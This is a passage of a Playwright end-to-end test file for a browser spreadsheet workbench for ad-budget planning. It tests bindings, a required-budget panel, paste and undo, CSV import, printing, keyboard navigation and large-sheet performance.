    // Bindings follow their sheet's rename.
    await page.click('[role="tab"]:text-is("Summary")');
    await page.click("#bind-this-sheet");
    await page.waitForSelector('[data-binding="thisMonth"]');
    await page.click('td[data-cell="G5"]');
    await page.click('button[aria-label="Use selected: This month\'s budget"]');
    await page.click('td[data-cell="C4"]');
    await page.click('button[aria-label="Use selected: Next month\'s proposed budget"]');
    await page.waitForSelector('[data-check="budget"]');
    await rename("Summary", "Overview");
    await page.waitForFunction(() => document.querySelector('[data-binding="thisMonth"]')?.textContent === "Overview!G5");
    expect(await page.textContent('[data-binding="proposed"]')).toBe("Overview!C4");
    expect(await page.locator("#bindings-missing").count()).toBe(0);
    expect(await page.locator('[data-check="budget"]').count()).toBe(1);
    // And all of it is still there after the pane reloads.
    await page.waitForTimeout(600);
    await page.click("#reload-pane");
    await page.waitForFunction(() => document.querySelector('[data-binding="thisMonth"]')?.textContent === "Overview!G5");
    await page.click('[role="tab"]:text-is("Plan A")');
    await page.waitForFunction(() => (document.querySelector('[data-minefield="5"] textarea') as HTMLTextAreaElement | null)?.value === "second report");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("answers What would it take? beside minefield 2: REQUIREDBUDGET for the scenario, with its response curve; the target typed survives a pane reload", async () => {
    const { page, errors } = await openWorkbench(browser);
    const section = page.locator('[data-check="what-it-takes"]');
    await section.waitFor();
    const line = { name: "scenario", baseCpa: 30, cpmElasticity: DEFAULT_ASSUMPTIONS.cpmElasticity, cvrElasticity: DEFAULT_ASSUMPTIONS.cvrElasticity, minSpend: 0, maxSpend: Infinity };
    await section.locator('[data-input="target"]').fill("20000");
    const needed = requiredBudget(20_000, "conversions", [line], DEFAULT_ASSUMPTIONS).budget;
    await page.waitForFunction((text) => document.querySelector('[data-result="required"]')?.textContent?.includes(text), formatAmount(needed, 2));
    expect(await section.locator('svg[role="img"]').getAttribute("aria-label")).toMatch(/^Conversions and marginal CPA against monthly budget up to .*Required /);
    await section.getByLabel("Marginal CPA at most").check();
    await section.locator('[data-input="target"]').fill("60");
    await page.waitForFunction(() => document.querySelector('[data-result="required"]')?.textContent?.includes("547,755.91"));
    await section.locator('[data-input="target"]').fill("0");
    expect(await section.locator('[data-result="required"]').textContent()).toBe("Enter a number above 0.");
    await section.locator('[data-input="target"]').fill("");
    await section.screenshot({ path: path.join(OUTPUT, "what-it-takes.png") });
    // The target typed comes back after the pane reloads, with its kind, as the pane's answers do.
    await section.locator('[data-input="target"]').fill("55");
    await page.waitForFunction(() => document.querySelector('[data-result="required"]')?.textContent?.startsWith("At a marginal CPA of at most 55.00"));
    await page.waitForTimeout(600);
    await page.click("#reload-pane");
    await page.locator('[data-check="what-it-takes"] [data-input="target"]').waitFor();
    await page.waitForFunction(() => (document.querySelector('[data-check="what-it-takes"] [data-input="target"]') as HTMLInputElement | null)?.value === "55");
    expect(await page.getByLabel("Marginal CPA at most").isChecked()).toBe(true);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("keeps the pane drawn at the largest budgets the functions accept (it had gone blank)", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector('[data-minefield="2"] [data-status]');
    await page.click('td[data-cell="B11"]');
    await page.keyboard.type("9000000000000");
    await page.keyboard.press("Enter");
    await page.waitForFunction(() => document.querySelector('[data-minefield="2"] [data-status]')?.getAttribute("data-status") === "risk");
    await page.locator('[data-check="what-it-takes"] [data-input="target"]').fill("1186560726");
    await page.waitForTimeout(300);
    expect(await page.locator("[data-minefield]").count()).toBe(7);
    expect(await page.locator('[data-check="what-it-takes"]').count()).toBe(1);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("binds cells on a sheet that is not from the template", async () => {
    const { page } = await openWorkbench(browser);
    await page.click('[role="tab"]:has-text("Summary")');
    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Summary");
    // The Summary is no scenario (issue 21, item 7): it says so, with no minefields, until cells are bound on it.
    await page.waitForSelector("#not-scenario");
    expect(await page.locator("[data-minefield]").count()).toBe(0);
    await page.click("#bind-this-sheet");
    await page.waitForSelector('[data-binding="thisMonth"]');
    // Bind this month and the proposal to the growth totals' neighbours on the Summary sheet.
    await page.click('td[data-cell="G5"]'); // growth's budget cap, 547,755.91
    await page.click('button[aria-label="Use selected: This month\'s budget"]');
    await page.click('td[data-cell="C4"]'); // cold start's year budget, 1,900,000
    await page.click('button[aria-label="Use selected: Next month\'s proposed budget"]');
    await page.waitForSelector('[data-check="budget"]');
    expect(await page.textContent('[data-binding="thisMonth"]')).toBe("Summary!G5");
    // Issue 21 item 3: without a base and a target CPA there is no cap, so no verdict: the card says which inputs are missing.
    expect(await page.locator('[data-check="budget"] li').allTextContents()).toEqual(["Base CPA is missing.", "Target marginal CPA is missing."]);
    expect(await page.getAttribute('[data-minefield="2"] [data-status]', "data-status")).toBe("unanswered");
    await page.click('td[data-cell="G4"]'); // cold start's budget cap, as a base CPA
    await page.click('button[aria-label="Use selected: Base CPA"]');
    await page.click('td[data-cell="G6"]'); // mature's budget cap, as a target CPA
    await page.click('button[aria-label="Use selected: Target CPA"]');
    await page.waitForFunction(() => document.querySelector('[data-check="budget"] [data-result="verdict"]') !== null);
    expect(await page.textContent('[data-check="budget"]')).toContain("(index)");
    await page.locator("#root").screenshot({ path: path.join(OUTPUT, "checklist-bindings.png") });
    await page.context().close();
  });

  /**
   * Pastes `months` months of an ad report at the CPM history's first month row, as a paste from another program gives
   * them (text/plain: month, spend, CPM, tab-separated, CRLF rows), spends from 100,000 up by `step`, CPMs on a clean curve.
   */
  const pasteReport = async (page: Page, months: number, step: number) => {
    const tsv = Array.from({ length: months }, (_, i) => {
      const spend = 100_000 + i * step;
      return `M${i + 1}\t${spend.toLocaleString("en-US")}\t${(80 * (spend / 200_000) ** 0.5).toFixed(6)}`;
    }).join("\r\n");
    await page.click(`td[data-cell="A${HISTORY_LAYOUT.firstMonthRow}"]`);
    await page.evaluate((text) => {
      const data = new DataTransfer();
      data.setData("text/plain", text);
      document.getElementById("grid")!.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
    }, tsv);
  };

  it("pastes a block copied as TSV into the CPM history and the fit follows; undo takes it back; Delete clears a range; copy puts what a cell shows on the clipboard", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin });
    await page.click('[role="tab"]:has-text("CPM history")');
    const fitted = () => cell(page, HISTORY_LAYOUT.results.elasticity);
    const before = await fitted();
    // Twelve months as an ad report exports them: month, spend, CPM, tab-separated, CRLF rows — on a clean curve.
    await pasteReport(page, 12, 50_000);
    await page.waitForFunction((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === "0.5000", HISTORY_LAYOUT.results.elasticity);
    expect(await cell(page, `B${HISTORY_LAYOUT.firstMonthRow}`)).toBe("100,000.00");
    expect(await page.inputValue("#address")).toBe(`A${HISTORY_LAYOUT.firstMonthRow}:C${HISTORY_LAYOUT.firstMonthRow + 11}`);
    // Undo, once, takes the whole paste back.
    await page.keyboard.press("Control+z");
    await page.waitForFunction(([a1, shown]) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === shown, [HISTORY_LAYOUT.results.elasticity, before] as const);
    await page.keyboard.press("Control+y");
    await page.waitForFunction((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === "0.5000", HISTORY_LAYOUT.results.elasticity);
    // Copy a computed cell: the clipboard holds what it shows.
    await page.click(`td[data-cell="${HISTORY_LAYOUT.results.elasticity}"]`);
    await page.keyboard.press("Control+c");
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("0.5000\r\n");
    // Shift+Tab goes back a column; Delete clears the selected range.
    await page.click(`td[data-cell="B${HISTORY_LAYOUT.firstMonthRow}"]`);
    await page.keyboard.press("Shift+Tab");
    expect(await page.inputValue("#address")).toBe(`A${HISTORY_LAYOUT.firstMonthRow}`);
    await page.keyboard.press("Shift+ArrowDown");
    await page.keyboard.press("Shift+ArrowRight");
    await page.keyboard.press("Delete");
    expect(await cell(page, `B${HISTORY_LAYOUT.firstMonthRow + 1}`)).toBe("");
    expect(await cell(page, `A${HISTORY_LAYOUT.firstMonthRow}`)).toBe("");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("months pasted below the 120 rows the CPM history fit reads are not dropped silently: the fit counts 120 and the pane says how many it leaves out", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector('[data-check="budget"] [data-result="verdict"]');
    expect(await page.locator('[data-result="months-beyond"]').count()).toBe(0);
    await page.click('[role="tab"]:has-text("CPM history")');
    // 125 months of a report, as it exports them: five more than the rows the fit reads.
    await pasteReport(page, 125, 5_000);
    // The paste's last rows are in view, the fit's cells not: the Name Box goes to them.
    const goTo = async (a1: string) => {
      await page.fill("#address", a1);
      await page.press("#address", "Enter");
      await page.locator(`td[data-cell="${a1}"]`).waitFor();
    };
    // The last month pasted is in the sheet, a number (its pasted "720,000" read as Excel reads it), but below the fit's rows.
    const last = HISTORY_LAYOUT.firstMonthRow + 124;
    await goTo(`B${last}`);
    expect(await page.textContent(`td[data-cell="B${last}"]`)).toBe("720,000");
    await goTo(HISTORY_LAYOUT.results.months);
    await page.waitForFunction((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === "120", HISTORY_LAYOUT.results.months);
    // The pane checks a scenario's step (minefield 2) on a scenario sheet: back on Growth, it says what the fit left out.
    await page.click('[role="tab"]:text-is("Growth")');
    await page.waitForSelector('[data-result="months-beyond"]');
    expect(await page.textContent('[data-result="months-beyond"]')).toBe(
      "5 month(s) on the CPM history sheet are below the 120 month rows the fit reads, so the fit leaves them out: keep the latest 120 months in those rows.",
    );
    // A year's report of days, 365 rows: every row below the fit's is counted, however far down (issue 25: it said 161).
    await page.click('[role="tab"]:has-text("CPM history")');
    await goTo(`A${HISTORY_LAYOUT.firstMonthRow}`);
    await pasteReport(page, 365, 1_000);
    await page.click('[role="tab"]:text-is("Growth")');
    await page.waitForFunction(() => document.querySelector('[data-result="months-beyond"]')?.textContent?.startsWith("245 month(s)"));
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("paste fills a selected range with one copied cell in one undo step, cut then paste moves the cell's format and fill, and undo puts them back", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"], { origin });
    await page.click('[role="tab"]:has-text("CPM history")');
    const source = `B${HISTORY_LAYOUT.firstMonthRow}`;
    const fillOf = (a1: string) => page.$eval(`td[data-cell="${a1}"]`, (td) => getComputedStyle(td).backgroundColor);
    /** Waits until no cell shows the selection's fill: the grid repaints a click on its next frame. */
    const unselected = (a1s: string[], selection: string) =>
      page.waitForFunction(([cells, fill]) => (cells as string[]).every((a1) => { const td = document.querySelector(`td[data-cell="${a1}"]`); return td !== null && getComputedStyle(td).backgroundColor !== fill; }), [a1s, selection] as const);
    const [blue, plain] = [await fillOf(source), await fillOf("E40")];
    expect(blue).not.toBe(plain);
    expect(await cell(page, source)).toBe("150,000.00");
    // Cut the blue input cell and paste it on a plain one: the value, its money format and its fill move.
    await page.click(`td[data-cell="${source}"]`);
    await page.keyboard.press("Control+x");
    await page.click('td[data-cell="E40"]');
    await page.keyboard.press("Control+v");
    await page.waitForFunction(() => document.querySelector('td[data-cell="E40"]')?.textContent === "150,000.00");
    expect(await fillOf("E40")).toBe(blue);
    expect(await cell(page, source)).toBe("");
    expect(await fillOf(source)).toBe(plain);
    // Copy it and paste on three selected cells: every one of them filled, format and fill too.
    await page.keyboard.press("Control+c");
    await page.click('td[data-cell="E42"]');
    await page.keyboard.press("Shift+ArrowDown");
    await page.keyboard.press("Shift+ArrowDown");
    await page.keyboard.press("Control+v");
    await page.waitForFunction(() => document.querySelector('td[data-cell="E44"]')?.textContent === "150,000.00");
    const selectionFill = await fillOf("E43");
    await page.click('td[data-cell="A60"]'); // the range no longer selected, so its own fill shows
    await unselected(["E42", "E43", "E44"], selectionFill);
    for (const a1 of ["E42", "E43", "E44"]) expect({ a1, shown: await cell(page, a1), fill: await fillOf(a1) }).toEqual({ a1, shown: "150,000.00", fill: blue });
    // One undo takes the whole paste back.
    await page.keyboard.press("Control+z");
    await page.waitForFunction(() => ["E42", "E43", "E44"].every((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === ""));
    await page.click('td[data-cell="A60"]'); // undo selects the cells it took back: unselect them to see their own fill
    await unselected(["E42", "E43", "E44"], selectionFill);
    for (const a1 of ["E42", "E43", "E44"]) expect({ a1, fill: await fillOf(a1) }).toEqual({ a1, fill: plain });
    // A second undo takes the cut back: the input cell is blue again, with its money format.
    await page.keyboard.press("Control+z");
    // Undo selects where the cut went (E40, scrolled to); back to the top, where the grid draws the source.
    await page.keyboard.press("Control+Home");
    await page.waitForFunction((a1) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === "150,000.00", source);
    await page.click('td[data-cell="D7"]');
    await unselected([source], selectionFill);
    expect(await fillOf(source)).toBe(blue);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("prints every used column of a wide sheet on the page: landscape, shrunk to the page's width", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.click('[role="tab"]:has-text("Summary")');
    await page.emulateMedia({ media: "print" });
    // Twice, as a second print (and page.pdf's own) fires it again over the first one's zoom.
    await page.evaluate(() => window.dispatchEvent(new Event("beforeprint")));
    await page.evaluate(() => window.dispatchEvent(new Event("beforeprint")));
    // The last used column's right edge, from the table's left: within a landscape Letter page less its
    // margins (259.4 mm, 980 CSS px; A4 is wider), where unshrunk the Summary sheet runs past it.
    const { right, last } = await page.$eval("#grid table", (table) => {
      const cells = Array.from(table.querySelectorAll<HTMLElement>("td[data-cell]"));
      const edge = Math.max(...cells.filter((td) => td.textContent !== "").map((td) => td.getBoundingClientRect().right));
      const lastCell = cells.find((td) => td.getBoundingClientRect().right === edge)!;
      return { right: edge - table.getBoundingClientRect().left, last: lastCell.dataset.cell };
    });
    expect(last).toMatch(/^K\d+$/);
    expect(right).toBeLessThanOrEqual(980);
    await page.pdf({ path: path.join(OUTPUT, "workbench-print-summary.pdf"), preferCSSPageSize: true, printBackground: true });
    await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("the Name Box and Formula Bar by Excel's names, a reference typed into the Name Box selects it, F6 reaches the pane, and the keys keep the selection in view", async () => {
    const { page, errors } = await openWorkbench(browser);
    await expect(page.getByRole("textbox", { name: "Name Box" }).count()).resolves.toBe(1);
    await expect(page.getByRole("textbox", { name: "Formula Bar" }).count()).resolves.toBe(1);
    const nameBox = page.getByRole("textbox", { name: "Name Box" });
    await nameBox.fill("'CPM history'!B5:C6");
    await nameBox.press("Enter");
    expect(await page.textContent("#root #sheet")).toBe("CPM history");
    expect(await page.inputValue("#address")).toBe("B5:C6");
    await nameBox.fill("no such place");
    await nameBox.press("Enter");
    expect(await page.textContent("#message")).toContain("is not a cell or range");
    // F6 from the grid: the formula bar, then the pane, then the grid again.
    await page.click('td[data-cell="A1"]');
    await page.keyboard.press("F6");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("formula");
    await page.keyboard.press("F6");
    expect(await page.evaluate(() => document.getElementById("root")!.contains(document.activeElement))).toBe(true);
    await page.keyboard.press("F6");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("grid");
    // PageDown twice and Ctrl+Down: the selected cell is drawn and scrolled into view; Ctrl+Home goes back to A1.
    await page.keyboard.press("PageDown");
    await page.keyboard.press("PageDown");
    expect(await page.inputValue("#address")).toBe("A41");
    const inView = () =>
      page.evaluate(() => {
        // Below the sticky column letters, above the grid's bottom edge.
        const cell = document.querySelector(".grid td.selected")!.getBoundingClientRect();
        const grid = document.getElementById("grid")!.getBoundingClientRect();
        const letters = document.querySelector(".grid thead")!.getBoundingClientRect();
        return cell.top >= letters.bottom - 1 && cell.bottom <= grid.bottom;
      });
    expect(await inView()).toBe(true);
    // Ctrl+Home: the first cell below and right of the frozen panes (the CPM history freezes its heading rows and column A), as in Excel.
    await page.keyboard.press("Control+Home");
    expect(await page.inputValue("#address")).toBe(`B${HISTORY_LAYOUT.firstMonthRow}`);
    expect(await inView()).toBe(true);
    // An entry typed over a cell goes in with Tab, an arrow or a click elsewhere, as in Excel — never dropped.
    await page.click('[role="tab"]:has-text("Growth")');
    await page.click('td[data-cell="B10"]');
    const before = await cell(page, "B10");
    await page.keyboard.type("111111");
    await page.keyboard.press("Tab");
    expect(await cell(page, "B10")).toBe("111,111.00");
    expect(await page.inputValue("#address")).toBe("C10");
    await page.click('td[data-cell="B11"]');
    await page.keyboard.type("222222");
    await page.keyboard.press("ArrowDown");
    expect(await cell(page, "B11")).toBe("222,222.00");
    expect(await page.inputValue("#address")).toBe("B12");
    await page.keyboard.type("333333");
    await page.click('td[data-cell="B15"]');
    await page.waitForFunction(() => document.querySelector('td[data-cell="B12"]')?.textContent === "333,333.00");
    expect(await page.inputValue("#address")).toBe("B15");
    // In the formula bar after F2, an arrow moves the caret; Escape drops the entry.
    await page.keyboard.press("F2");
    await page.keyboard.type("9");
    await page.keyboard.press("ArrowLeft");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("formula");
    await page.keyboard.press("Escape");
    expect(await cell(page, "B15")).toBe("500,000.00");
    for (let i = 0; i < 3; i++) await page.keyboard.press("Control+z");
    expect(await cell(page, "B10")).toBe(before);
    // A General number too wide for its column is shortened as Excel does (scientific, as many digits as fit), never cut; its value is on hover and in the formula bar.
    await nameBox.fill("Z100");
    await nameBox.press("Enter");
    await page.keyboard.type("123456789012345");
    await page.keyboard.press("Enter");
    await page.click('td[data-cell="Z100"]');
    expect(await cell(page, "Z100")).toMatch(/^1\.2\d*E\+14$/);
    expect(await page.getAttribute('td[data-cell="Z100"]', "title")).toBe("1.23457E+14"); // General, as Excel shows it where it fits
    expect(await page.inputValue("#formula")).toBe("123456789012345");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("opens a GBK-encoded CSV report as a sheet, Chinese intact, numbers as numbers, a formula-looking note as text", async () => {
    const { page, errors } = await openWorkbench(browser);
    // "笔记,阅读\r\n早间护肤,52000\r\n=1+1,3" in GBK, as a Chinese report tool writes it.
    const gbk = Buffer.from([0xb1, 0xca, 0xbc, 0xc7, 0x2c, 0xd4, 0xc4, 0xb6, 0xc1, 0x0d, 0x0a, 0xd4, 0xe7, 0xbc, 0xe4, 0xbb, 0xa4, 0xb7, 0xf4, 0x2c, 0x35, 0x32, 0x30, 0x30, 0x30, 0x0d, 0x0a, 0x3d, 0x31, 0x2b, 0x31, 0x2c, 0x33]);
    await page.setInputFiles("#open", { name: "聚光报表.csv", mimeType: "text/csv", buffer: gbk });
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "聚光报表.xlsx");
    expect(await page.locator('[role="tab"]').allTextContents()).toEqual(["聚光报表"]);
    // A file opened selects its own first cell (A1 here), not the template's B10 selected before.
    expect(await page.inputValue("#address")).toBe("A1");
    expect(await cell(page, "A1")).toBe("笔记");
    expect(await cell(page, "A2")).toBe("早间护肤");
    expect(await cell(page, "B2")).toBe("52000");
    expect(await cell(page, "A3")).toBe("=1+1");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("opens a CSV report's amounts, percentages and dates as numbers shown as written, and 50万 as text; the formula bar shows them as Excel's does, and F2+Enter changes none", async () => {
    const { page, errors } = await openWorkbench(browser);
    const csv = 'Spend,Refund,Share,Day,Note\r\n"¥1,234.50",(1200),50%,2026-11-30,50万\r\n';
    await page.setInputFiles("#open", { name: "report.csv", mimeType: "text/csv", buffer: Buffer.from(csv, "utf8") });
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "report.xlsx");
    // As formatted (in a column too narrow, #### with the formatted text on hover, as Excel shows it).
    const shown = async (a1: string) => ((await cell(page, a1)) ?? "").replace(/^#+$/, (await page.getAttribute(`td[data-cell="${a1}"]`, "title")) ?? "");
    expect([await shown("A2"), await shown("B2"), await shown("C2"), await shown("D2"), await shown("E2")]).toEqual(["¥1,234.50", "-1,200", "50%", "2026-11-30", "50万"]);
    // The formula bar shows each number as Excel's does: money plainly, the percent as a percent, the date as the date.
    for (const [a1, value] of [["A2", "1234.5"], ["B2", "-1200"], ["C2", "50%"], ["D2", "2026-11-30"]]) {
      await page.click(`td[data-cell="${a1}"]`);
      expect({ a1, value: await page.inputValue("#formula") }).toEqual({ a1, value });
    }
    // F2 and Enter on each changes nothing: the same look, and the formulas read the same numbers (DATE(2026,11,30) = 46356).
    await page.click('td[data-cell="F2"]');
    await page.fill("#formula", "=A2+B2+C2+D2");
    await page.press("#formula", "Enter");
    await page.waitForFunction(() => document.querySelector('td[data-cell="F2"]')?.textContent !== "");
    const sum = await page.textContent('td[data-cell="F2"]');
    expect(Number((sum ?? "").replace(/,/g, ""))).toBeCloseTo(1234.5 - 1200 + 0.5 + 46356, 9);
    for (const a1 of ["A2", "B2", "C2", "D2"]) {
      await page.click(`td[data-cell="${a1}"]`);
      await page.keyboard.press("F2");
      await page.keyboard.press("Enter");
    }
    expect([await shown("A2"), await shown("B2"), await shown("C2"), await shown("D2")]).toEqual(["¥1,234.50", "-1,200", "50%", "2026-11-30"]);
    expect(await page.textContent('td[data-cell="F2"]')).toBe(sum);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("60 typed into a share on the Assumptions sheet is 60% (Excel's automatic percent entry), the scenario splits by it, and F2+Enter changes nothing", async () => {
    const { page, errors } = await openWorkbench(browser);
    const share = assumptionRef("spill_growth").replace(/^.*!|\$/g, ""); // Growth's spillover share, in 0.0%
    await page.click('[role="tab"]:text-is("Assumptions")');
    expect(await cell(page, share)).toBe("50.0%");
    await page.click(`td[data-cell="${share}"]`);
    await page.keyboard.type("60");
    await page.keyboard.press("Enter");
    expect(await cell(page, share)).toBe("60.0%");
    await page.click(`td[data-cell="${share}"]`);
    expect(await page.inputValue("#formula")).toBe("60%");
    await page.keyboard.press("F2");
    await page.keyboard.press("Enter");
    expect(await cell(page, share)).toBe("60.0%");
    // Growth's budget in row 10 splits 60% to spillover, where a share of 6000% gave #VALUE!.
    await page.click('[role="tab"]:text-is("Growth")');
    const budget = await shownNumber(page, "B10");
    expect(budget).toBeGreaterThan(0);
    expect([await shownNumber(page, "C10"), await shownNumber(page, "D10")]).toEqual([budget * 0.6, budget * 0.4]);
    // Full-width digits, as a Chinese input method types them (it composes in the formula bar), are the number too.
    await page.click('td[data-cell="B10"]');
    await page.fill("#formula", "４００，０００");
    await page.press("#formula", "Enter");
    expect([await cell(page, "B10"), await cell(page, "C10")]).toEqual(["400,000.00", "240,000.00"]);
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("a download carries the pane's answers where Excel keeps an add-in's settings, and reopening it brings them back", async () => {
    const { page, errors } = await openWorkbench(browser);
    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
    await page.check('[data-minefield="5"] input[value="clear"]');
    await page.fill('[data-minefield="5"] textarea', "=Carried in the file 随文件保存");
    await page.waitForTimeout(600); // the pane saves 300 ms after the last change
    const { saved } = await downloadAs(page, "workbench-answers.xlsx");
    // Another workbook opened in between has none of them.
    await openFile(page, "someone-else.xlsx", (other) => {
      other.addWorksheet("Growth").getCell("A1").value = "someone else's plan";
    });
    await page.waitForFunction(() => document.querySelector("#message")?.textContent === "Opened someone-else.xlsx.");
    await page.click("#bind-this-sheet");
    await page.waitForSelector('[data-minefield="5"] textarea');
    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("");
    // The download opened again: its answers are back, text as typed.
    await page.setInputFiles("#open", saved);
    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "workbench-answers.xlsx");
    await page.waitForSelector('[data-minefield="5"] [data-status="clear"]');
    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("=Carried in the file 随文件保存");
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it("opens a 40,000-row sheet, saying what it is doing, draws only the rows in view, reaches the last row by Ctrl+End and the Name Box, and recomputes an edit", async () => {
    const { page, errors } = await openWorkbench(browser);
    const file = path.join(OUTPUT, "forty-thousand-rows.xlsx");
    await writeBigSheet(file);
    // Every step the message line says while the file opens (no timings asserted: `npm run bench` measures them).
    await page.evaluate(() => {
      const seen: string[] = ((window as unknown as { seen: string[] }).seen = []);
      new MutationObserver(() => seen.push(document.getElementById("message")!.textContent ?? "")).observe(document.getElementById("message")!, { childList: true, characterData: true, subtree: true });
    });
    await page.setInputFiles("#open", file);
    await page.waitForFunction(() => document.querySelector("#message")?.textContent === "Opened forty-thousand-rows.xlsx.", undefined, { timeout: 180_000 });
    expect(await page.evaluate(() => (window as unknown as { seen: string[] }).seen)).toEqual(
      expect.arrayContaining(["Opening forty-thousand-rows.xlsx: unpacking the file…", "Opening forty-thousand-rows.xlsx: reading the cells…", `Opening forty-thousand-rows.xlsx: computing ${BIG_ROWS.toLocaleString("en")} rows…`]),
    );
    expect(await cell(page, "A2")).toBe("Note 2");
    // Only what is in view (and a margin) is drawn, yet the scroll bar spans every row.
    const drawn = () => page.locator(".grid td[data-cell]").count();
    expect(await drawn()).toBeLessThan(2_000);
    expect(await page.$eval("#grid", (grid) => grid.scrollHeight)).toBeGreaterThan(BIG_ROWS * 20);
    // Ctrl+End: the last row, drawn and in view; the file's frozen header row and column stay put above and beside it.
    await page.click('td[data-cell="B3"]');
    await page.keyboard.press("Control+End");
    expect(await page.inputValue("#address")).toBe(`G${BIG_ROWS}`);
    const inView = (a1: string) =>
      page.evaluate((at) => {
        const target = document.querySelector(`.grid td[data-cell="${at}"]`);
        if (!target) return "not drawn";
        const box = target.getBoundingClientRect();
        const hit = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
        return hit === target || target.contains(hit) ? "in view" : `covered by ${hit?.outerHTML.slice(0, 80)}`;
      }, a1);
    expect(await inView(`G${BIG_ROWS}`)).toBe("in view");
    expect(await inView("B1")).toBe("in view");
    expect(await inView(`A${BIG_ROWS - 3}`)).toBe("in view");
    expect(await cell(page, `A${BIG_ROWS}`)).toBe(`Note ${BIG_ROWS}`);
    expect(await drawn()).toBeLessThan(2_000);
    // The Name Box: up to the top and down again; an edit at the bottom recomputes its row and the total.
    await page.fill("#address", "A1");
    await page.press("#address", "Enter");
    expect(await inView("A1")).toBe("in view");
    await page.fill("#address", `B${BIG_ROWS}`);
    await page.press("#address", "Enter");
    expect(await inView(`B${BIG_ROWS}`)).toBe("in view");
    // The row numbers as wide as the last row's needs, as Excel widens them: 39990 shows whole (it showed "39…").
    const number = page.locator(`#grid tr[aria-rowindex="${39_990 + 1}"] th.row`);
    expect(await number.textContent()).toBe("39990");
    expect(await number.evaluate((th) => th.scrollWidth <= th.clientWidth)).toBe(true);
    const total = await shownNumber(page, "G1");
    const impressions = (spend: number) => (spend / bigRowCpm(BIG_ROWS)) * 1000;
    expect(await cell(page, `D${BIG_ROWS}`)).toBe(Math.round(impressions(bigRowSpend(BIG_ROWS))).toLocaleString("en-US"));
    // The tasks that held the page 50 ms or more, by the page's own clock (as `npm run bench` reads them).
    await page.evaluate(() => {
      const blocked: [number, number][] = ((window as unknown as { blocked: [number, number][] }).blocked = []);
      new PerformanceObserver((list) => list.getEntries().forEach((entry) => blocked.push([entry.startTime, entry.duration]))).observe({ type: "longtask" });
    });
    await page.keyboard.type("6200");
    await page.keyboard.press("Enter");
    await page.waitForFunction(([a1, shown]) => document.querySelector(`td[data-cell="${a1}"]`)?.textContent === shown, [`D${BIG_ROWS}`, Math.round(impressions(6200)).toLocaleString("en-US")] as const);
    const repainted = await page.evaluate(() => new Promise<number>((resolve) => requestAnimationFrame(() => resolve(performance.now()))));
    expect(await shownNumber(page, "G1")).toBeCloseTo(total + impressions(6200) - impressions(bigRowSpend(BIG_ROWS)), -1);
    // Kept in the browser without holding the page: no task after the repaint blocks it for long (the
    // whole .xlsx rebuilt here held it 5.7–14 s). The bound leaves room for a busy test machine.
    await page.waitForSelector("body[data-kept=true]", { timeout: 60_000 });
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200))); // the observer's last report delivered
    const longest = await page.evaluate((after) => Math.max(0, ...(window as unknown as { blocked: [number, number][] }).blocked.filter(([start]) => start >= after).map(([, duration]) => duration)), repainted);
    expect(longest).toBeLessThan(250);
    // Scrolled back up by hand: the rows coming into view are drawn.
    await page.$eval("#grid", (grid) => (grid.scrollTop = 22 * 20_000));
    await page.waitForSelector('td[data-cell="A20005"]');
    expect(await inView("A20005")).toBe("in view");
    await page.screenshot({ path: path.join(OUTPUT, "workbench-40000-rows.png") });
    // A reload finds the edit, as kept.
    await page.reload();
    await page.waitForFunction(() => document.querySelector("#message")?.textContent?.startsWith("Reopened forty-thousand-rows.xlsx"), undefined, { timeout: 180_000 });
    await page.fill("#address", `D${BIG_ROWS}`);
    await page.press("#address", "Enter");
    expect(await cell(page, `B${BIG_ROWS}`)).toMatch(/^6,?200$/);
    expect(await cell(page, `D${BIG_ROWS}`)).toBe(Math.round(impressions(6200)).toLocaleString("en-US"));
    // In a font with wider digits (a machine with neither Calibri, Carlito nor the Chinese fonts falls back to one:
    // DejaVu Sans here), where "39990" needs more than the 39 px a 52 px row number had, the sheet drawn again widens them.
    await page.addStyleTag({ content: ".grid { font-family: 'DejaVu Sans', sans-serif !important; }" });
    const digitsWidth = await number.evaluate((th) => {
      const measure = document.createElement("canvas").getContext("2d")!;
      measure.font = getComputedStyle(th).font;
      return measure.measureText("39990").width;
    });
    expect(digitsWidth).toBeGreaterThan(39);
    await page.click('[role="tab"]');
    expect(await number.textContent()).toBe("39990");
    expect(await number.evaluate((th) => th.scrollWidth <= th.clientWidth)).toBe(true);
    expect(errors).toEqual([]);
